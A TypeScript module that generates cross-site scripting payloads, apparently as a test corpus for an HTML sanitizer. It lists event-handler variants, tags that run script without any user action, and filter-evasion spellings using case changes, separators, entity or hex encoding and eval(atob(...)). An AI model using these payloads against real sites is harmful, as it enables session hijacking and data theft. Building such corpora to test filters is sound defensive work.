import type { Family } from '../family.ts';

/** Sources: OWASP XSS Filter Evasion Cheat Sheet; PortSwigger XSS cheat sheet (event handlers, tags); html5sec.org (cure53). */

const handlers = (
  'abort afterprint animationend animationiteration animationstart auxclick beforeinput beforeprint beforetoggle beforeunload blur ' +
  'canplay canplaythrough change click close contextmenu copy cuechange cut dblclick drag dragend dragenter dragover dragstart drop ' +
  'durationchange ended error focus focusin focusout fullscreenchange hashchange input invalid keydown keypress keyup load loadeddata ' +
  'loadedmetadata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow ' +
  'paste pause play playing pointerdown pointerenter pointermove pointerover pointerrawupdate popstate progress ratechange reset resize ' +
  'scroll scrollend search securitypolicyviolation select selectionchange selectstart slotchange submit timeupdate toggle touchend ' +
  'touchstart transitionend transitionrun unhandledrejection unload volumechange wheel'
).split(' ');

export const everyHandler: Family = (run) => handlers.map((name) => `<img src=x:x tabindex=0 on${name}=${run}>`);

/** These run by themselves, without anybody doing anything. */
export const byThemselves: Family = (run) => [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script/x>${run}</script/y>`,
  `<script\n>${run}</script\t>`,
  `<script>${run}`,
  `<script src=data:,${run}></script>`,
  `<script type=module>${run}</script>`,
  `<script type=text/javascript async defer>${run}</script>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src onerror=${run}>`,
  `<img src=x onerror="${run}" alt>`,
  `<img src=x onerror='${run}' />`,
  `<img src=x onerror=\`${run}\`>`,
  `<img """><script>${run}</script>">`,
  `<image src=x onerror=${run}>`,
  `<img srcset=x onerror=${run}>`,
  `<picture><source srcset=x><img onerror=${run}></picture>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<frameset onload=${run}>`,
  `<iframe onload=${run}>`,
  `<iframe srcdoc="<script>parent.${run}</script>">`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${run}&gt;"></iframe>`,
  `<iframe src="javascript:parent.${run}">`,
  `<input autofocus onfocus=${run}>`,
  `<input type=image src=x onerror=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<button autofocus onfocus=${run}>`,
  `<x tabindex=1 autofocus onfocus=${run}>`,
  `<p contenteditable autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video src=x onerror=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<video poster=x src=x onloadstart=${run}>`,
  `<audio src onloadstart=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<track src=x onerror=${run}>`,
  `<object data=x onerror=${run}>`,
  `<object data="javascript:${run}">`,
  `<embed src="javascript:${run}">`,
  `<embed src=x onerror=${run}>`,
  `<link rel=stylesheet href=x onerror=${run}>`,
  `<style onload=${run}></style>`,
  `<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=${run}>`,
  `<marquee onstart=${run}>`,
  `<marquee loop=1 width=0 onfinish=${run}>`,
  `<meter onmouseover=${run} style=position:fixed;inset:0>`,
  `<div popover id=p onbeforetoggle=${run}></div><button popovertarget=p>x</button>`,
  `<dialog open onclose=${run}><form method=dialog><button>x</button></form></dialog>`,
  `<isindex action=javascript:${run} type=image>`,
  `<bgsound src=javascript:${run}>`,
  `<table background=javascript:${run}>`,
  `<template><img src=x onerror=${run}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${run}></template></div>`,
  `<x is=x onclick=${run}>x</x>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<a autofocus href=# onfocus=${run}>x</a>`,
  `<area autofocus href=# onfocus=${run}>`,
  `<canvas onclick=${run} style=position:fixed;inset:0>`,
];

const separators = [' ', '/', '\t', '\n', '\f', '\r', ' / ', '//', '/x/', '\u00a0'];
const quotes = ['', '"', "'"];

/** The same attack, written in ways that filters forget. */
export const spellings: Family = (run) => [
  ...separators.flatMap((gap) => quotes.map((quote) => `<img${gap}src=${quote}x${quote}${gap}onerror=${quote}${run}${quote}>`)),
  `<IMG SRC=x ONERROR=${run}>`,
  `<iMg sRc=x oNeRrOr=${run}>`,
  `<img src=x onerror =${run}>`,
  `<img src=x onerror= ${run}>`,
  `<img src=x onerror\n=\n${run}>`,
  `<img src=x onerror=${encoded(run)}>`,
  `<img src=x onerror=${hexEncoded(run)}>`,
  `<img src=x:alert onerror=${run}//`,
  `<img src=x onerror=${run} `,
  `<img src=x onerror=${run}\n<p>`,
  `<<img src=x onerror=${run}>`,
  `<\u0000img src=x onerror=${run}>`.replaceAll('\u0000', '\ufffd'),
  `< img src=x onerror=${run}>`,
  `<img src=x onerror=eval(atob('${btoa(run)}'))>`,
  `<img src=x onerror=Function('${run}')()>`,
  `<img src=x onerror=setTimeout('${run}')>`,
  `<img src=x onerror=window['__'+'xss'](0)>`,
  `<img src=x onerror=top.${run}>`,
  `<img src=x onerror="alert(1)">`,
  `<img src=x onerror="confirm(1);prompt(1)">`,
];

function encoded(text: string): string {
  return [...text].map((sign) => `&#${sign.codePointAt(0)}`).join('');
}
function hexEncoded(text: string): string {
  return [...text].map((sign) => `&#x${sign.codePointAt(0)?.toString(16).padStart(6, '0')};`).join('');
}
